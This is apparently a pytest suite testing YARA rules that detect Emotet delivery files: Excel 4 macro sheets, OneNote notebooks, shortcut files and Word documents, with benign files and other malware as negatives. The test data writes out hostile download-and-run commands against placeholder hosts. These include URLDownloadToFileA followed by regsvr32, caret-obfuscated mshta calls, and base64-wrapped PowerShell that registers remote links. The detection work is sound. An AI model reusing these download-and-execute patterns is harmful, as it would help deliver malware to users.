"""What Emotet sent: workbooks, notebooks, shortcuts, documents, and the nearest honest things and other malware's."""

import base64
import io
import zipfile
from collections.abc import Callable
from random import Random
from uuid import UUID

import pytest
from support.carriers import honest_documents, honest_files, honest_tools, notebooks, others, sheets, shortcuts
from support.carriers.sample import Sample
from support.lnk_files import lnk
from support.office.biff_writer import workbook_stream
from support.office.forms_writer import FormControl
from support.office.ole_writer import compound_file
from support.office.vba_writer import Compiled, Source
from support.office.word_writer import word_document
from support.office.xlm_writer import BookPlan, NamePlan, SheetPlan, xml_parts, zipped
from support.office.xlsb_writer import xlsb_parts
from support.onenote_files import one
from support.yara_rules import fits

SEEDS = range(8)
URLS = ("http://a.example.com/wp-content/x1/", "http://b.example.com/cgi-bin/y/", "http://c.example.com/z/")


def unpacked(data: bytes) -> set[str]:
    """What fits *data*, or a member of it if it is a zip: the engine opens it in the same way."""
    found = fits(data)
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            found = found.union(*(fits(archive.read(name)) for name in archive.namelist()))
    return found


def every(draw: Callable[[Random], Sample]) -> list[set[str]]:
    return [unpacked(draw(Random(seed)).data) for seed in SEEDS]


def book(cells: dict[str, str | float], name: tuple[NamePlan, ...] = ()) -> BookPlan:
    return BookPlan((SheetPlan("Sheet", {}, "worksheet"), SheetPlan("OO", cells, "macrosheet", "hidden")), name)


def shells(plan: BookPlan) -> list[set[str]]:
    """The same workbook in each of its three forms."""
    return [
        unpacked(compound_file({"Workbook": workbook_stream(plan)})),
        unpacked(zipped(xml_parts(plan))),
        unpacked(zipped(xlsb_parts(plan))),
    ]


def listed(
    end: str = "ocx", switch: str = "/S", folder: str = "..\\", types: str = "JJCCBB", stem: str = "hvxda", numbers: str = "123"
) -> BookPlan:
    cells: dict[str, str | float] = {}
    for row, (url, number) in enumerate(zip(URLS, numbers or ("", "", ""), strict=True), 1):
        call = f'CALL("urlmon","URLDownloadToFileA","{types}",0,"{url}","{folder}{stem}{number}.{end}",0,0)'
        cells[f"F{row}"] = f"={call}" if row == 1 else f"=IF(ABC<0,{call})"
    cells["F8"] = f'=EXEC("C:\\Windows\\System32\\regsvr32.exe {switch} {folder}{stem}{numbers[:1]}.{end}")'
    cells["F9"] = "=RETURN()"
    return book(cells, (NamePlan("ABC", "OO!$F$1"),))


def test_a_list_of_downloads_in_each_shell() -> None:
    for plan in (listed(), listed(end="dll", switch="-s", numbers=""), listed(stem="si", switch="/s")):
        assert shells(plan) == [{"emotet_excel4_list", "excel4_fetches_library"}] * 3


@pytest.mark.parametrize(
    "plan",
    [
        listed(end="red"),
        listed(stem="Drezd"),
        listed(switch="-silent"),
        listed(switch="-e -n -i:&Tiposa& "),
        listed(folder="C:\\Uduw\\"),
        listed(types="JJCCJJ"),
    ],
)
def test_a_list_that_is_not_quite_emotets(plan: BookPlan) -> None:
    assert shells(plan) == [{"excel4_fetches_library"}] * 3


@pytest.mark.parametrize("end", ["ooccxx", "ooocccxxx"])
def test_the_odd_extension(end: str) -> None:
    assert all(found == {"emotet_excel4_odd_extension", "excel4_fetches_library"} for found in shells(listed(end)))
    text = f"regsvr32 /S ..\\elv1.{end} URLDownloadToFileA JJCCBB was seen in November 2022"
    assert fits(text.encode()) == fits(text.encode("utf-16-le")) == set(), "a report has no macro sheet"
    assert shells(BookPlan((SheetPlan("Notes", {"A1": text}, "worksheet"),)))[0] == set()


@pytest.mark.parametrize(
    "command",
    [
        "^".join("mshta http://192.0.2.7/fe/fe.html"),
        "m^sh^t^a h^tt^p^:/^/192.0.2.7/a/b.html",  # Trend Micro, 2022-01-21: irregular, and numbers in other forms
        "ms^h^ta ht^tp:/^/0xc0000207/a.html",
        "msht^a http:/^/0300.0000.0002.0007/a.html",
    ],
)
def test_a_command_with_carets_in_a_name(command: str) -> None:
    plan = book({"J1": "=EXEC(ABCD)", "J2": "=HALT()"}, (NamePlan("ABCD", f'"cmd /c {command}"', "OO", hidden=True),))
    assert shells(plan)[:2] == [{"emotet_excel4_caret_page"}] * 2
    assert fits(f"cmd /c {command}".encode()) == set(), "a report"


@pytest.mark.parametrize(
    "command",
    [
        "^".join("mshta http://www.example.com/fe.html"),  # a host with a name
        "mshta http://192.0.2.7/fe.html",
        "mshta http:/^/192.0.2.7/fe.html",
        "m^s^h^t^a http://192.0.2.7/fe.html",
        "e^x^c^e^l http:/^/192.0.2.7/fe.html",
    ],
)
def test_a_command_that_is_not_quite_so(command: str) -> None:
    assert set().union(*shells(book({"J1": f'=EXEC("cmd /c {command}")'}))) == set()


def test_workbooks_as_the_campaigns_had_them() -> None:
    assert all("emotet_excel4_odd_extension" in found for found in every(sheets.templates))
    assert all("excel4_fetches_library" in found for found in every(sheets.downloads))
    assert any("excel4_writes_scripts" in found for found in every(sheets.scripts))
    assert sum("emotet_excel4_caret_page" in found for found in every(sheets.mshta)) >= 3


@pytest.mark.parametrize(
    "draw",
    [
        honest_documents.old_macros, honest_documents.old_tools, honest_documents.opener, honest_documents.rates,
        honest_tools.plug_in, honest_tools.updating_book, honest_tools.starting_book, honest_documents.template,
        honest_documents.inventory, honest_documents.report, honest_documents.form, honest_tools.generated_form,
        honest_tools.mailing_document, honest_files.admin_link, honest_files.document_link, honest_tools.shortcuts,
        honest_files.notebook, honest_files.admin_notebook, honest_tools.tips, honest_files.minified, honest_files.node_project,
        honest_tools.installer, honest_files.logon,
    ],
)  # fmt: skip
def test_honest_things_are_silent(draw: Callable[[Random], Sample]) -> None:
    assert every(draw) == [set()] * len(SEEDS)


@pytest.mark.parametrize(
    "draw",
    [
        others.qakbot_sheet, others.numbered_sheet, others.single_sheet, others.mshta_sheet, others.numbers_sheet,
        others.powershell_link, others.icedid_notebook, others.lent_builder, others.mirrors, others.trickbot, others.icedid,
    ],
)  # fmt: skip
def test_other_malware_is_never_called_emotet(draw: Callable[[Random], Sample]) -> None:
    assert [name for found in every(draw) for name in found if name.startswith("emotet")] == []


def test_notebooks_as_the_campaigns_had_them() -> None:
    for draw in (notebooks.wsf, notebooks.vbs, notebooks.veiled):
        assert all("emotet_onenote_script" in found for found in every(draw)), draw
    assert all("emotet_onenote_script" in found for found in every(notebooks.from_the_web))


SCRIPT = b'<job id="a"><script language="VBScript">\r\nCreateObject("WScript.Shell").Run "x"\r\n</script></job>'


def test_a_notebook_needs_the_script_and_the_name_or_the_lure() -> None:
    assert fits(one([("click.wsf", SCRIPT)])) == {"emotet_onenote_script"}
    lure = ['You have to double-click "View" button to open this document']
    assert fits(one([("a.wsf", SCRIPT)], lure)) == {"onenote_lure_script"}
    assert fits(one([("a.wsf", SCRIPT)])) == set(), "an administrator keeps a script"
    assert fits(one([("a.png", notebooks.PICTURE)], lure)) == set(), "no script"
    assert fits(one([("a.png", notebooks.PICTURE)], ["Beware of click.wsf"])) == set(), "a warning with a picture"
    assert fits(one([("a.txt", b"The minutes of our meeting. " * 9)], lure)) == set()
    assert fits(bytes(16) + one([("click.wsf", SCRIPT)])[16:]) == set(), "no notebook"


def test_a_notebook_that_is_cut_short() -> None:
    whole = one([("click.wsf", SCRIPT)])
    begin = whole.index(SCRIPT)
    assert [fits(whole[:cut]) for cut in (16, 64, 0x400, begin - 30, begin + 3)] == [set()] * 5
    assert fits(whole[: begin + 20]) == {"emotet_onenote_script"}, "the script begins, whatever is lost behind"


def test_the_store_of_a_notebook_is_that_of_the_specification() -> None:
    assert UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le in one([("a", b"b")])  # [MS-ONESTORE] 2.6.13


def test_shortcuts_as_the_campaigns_had_them() -> None:
    assert every(shortcuts.itself) == every(shortcuts.itself_as_document) == [{"emotet_shortcut_finds_itself"}] * len(SEEDS)
    assert every(shortcuts.in_base64) == [{"emotet_shortcut_list"}] * len(SEEDS)


LIST = '$ProgressPreference="SilentlyContinue";$links=("http://192.0.2.1/");foreach ($u in $links) {Regsvr32.exe $u}'
CMD = r"C:\Windows\System32\cmd.exe"


@pytest.mark.parametrize("before", ["", "a", "ab", 'Write-Host "abcdef";'])
@pytest.mark.parametrize("unicode", [True, False])
def test_the_list_at_any_place_in_base64(before: str, unicode: bool) -> None:
    text = base64.b64encode((before + LIST).encode()).decode()
    command = f"powershell -c \"&{{iex ([string][System.Convert]::FromBase64String('{text}'))}}\""
    assert fits(lnk(CMD, command, unicode=unicode)) == {"emotet_shortcut_list"}
    other = base64.b64encode((before + LIST.replace("$links", "$pages")).encode()).decode()
    assert fits(lnk(CMD, command.replace(text, other), unicode=unicode)) == set()


@pytest.mark.parametrize(
    "arguments",
    [
        '/v:on /c findstr "error.*" "C:\\logs\\app.log"',
        '/c findstr "glKmfOKnQLYKnNs.*" "form.lnk" > "%tmp%\\a.vbs"',  # without delayed expansion
        '/v:on /c findstr "glKmfOKnQLYKnNs.*" "form.txt" > "%tmp%\\a.vbs"',
        "powershell iwr http://www.example.com/setup.ps1 -OutFile setup.ps1",
        "powershell -c regsvr32 /s C:\\Tools\\a.ocx",
    ],
)
def test_shortcuts_that_are_not_quite_so(arguments: str) -> None:
    assert fits(lnk(CMD, arguments)) == set()


def test_a_download_that_is_registered() -> None:
    text = "powershell iwr http://192.0.2.1/a -OutFile %tmp%\\a.dll; regsvr32 %tmp%\\a.dll"
    assert fits(lnk(CMD, text)) == {"shortcut_registers_download"}
    assert fits(text.encode("utf-16-le")) == set(), "no shortcut"


MOMENT = 132_150_000_000_000_000
UNTOUCHED = {"revision": "1", "edited": 0, "created": MOMENT, "saved": MOMENT}
NAMES = ("autoopen", "CreateObject", "Create", "Replace")


def document(
    *names: str, module: str = "Gorgeousabc", page: str = "\x13 CONTROL Forms.TextBox.1 \\s \x14\x01\x15\r", **told: object
) -> bytes:
    """A document whose macro uses *names*, with *told* in the place of the properties that Emotet's had."""
    modules = (Source(module, "Sub a()\r\nEnd Sub\r\n", "document", compiled=Compiled(names=names)), Source("Other"))
    return word_document(modules, properties={**UNTOUCHED, **told}, controls=(FormControl("b", "c"),), text=page)


@pytest.mark.parametrize("names", [NAMES, ("Document_open", "GetObject", "Create")])
def test_a_document_of_the_builder(names: tuple[str, ...]) -> None:
    assert fits(document(*names)) == {"emotet_word_builder"}
    assert fits(document(*names, page="請求書 \x13 CONTROL Forms.TextBox.1 \\s \x14\x01\x15\r")) == {"emotet_word_builder"}


@pytest.mark.parametrize(
    "data",
    [
        document(*NAMES, module="ThisDocument"),
        document(*NAMES, module="DieseesDokument"),
        document(*NAMES, revision="2"),
        document(*NAMES, revision="11"),
        document(*NAMES, edited=600_000_000),
        document(*NAMES, saved=MOMENT + 600_000_000),
        document(*NAMES, page="text"),
        document("Document_Open", *NAMES[1:]),  # the editor's own spelling
        document("autoopen", "Fields", "Update"),  # a form that a program wrote
        document("autoopen", "CreateObject", "Run"),
        document("autoopen", "CreateObject", "CreateTextFile"),
    ],
)
def test_documents_that_are_not_quite_so(data: bytes) -> None:
    assert fits(data) == set()


@pytest.mark.parametrize("constant", ["wdLinkNone", "wdTextureNone", "wdXMLValidationStatusOK", "AssistWithHelp"])
def test_a_window_that_is_hidden_by_something_else(constant: str) -> None:
    assert fits(document("AutoOpen", "ShowWindow", constant, module="ThisDocument")) == {"word_macro_hides_window"}
    assert fits(document("ShowWindow", constant)) == set(), "it does not start by itself"
    assert fits(document("AutoOpen", constant)) == set(), "a document that sets a texture"
    assert fits(document("AutoOpen", "ShowWindow", "vbHide")) == set()
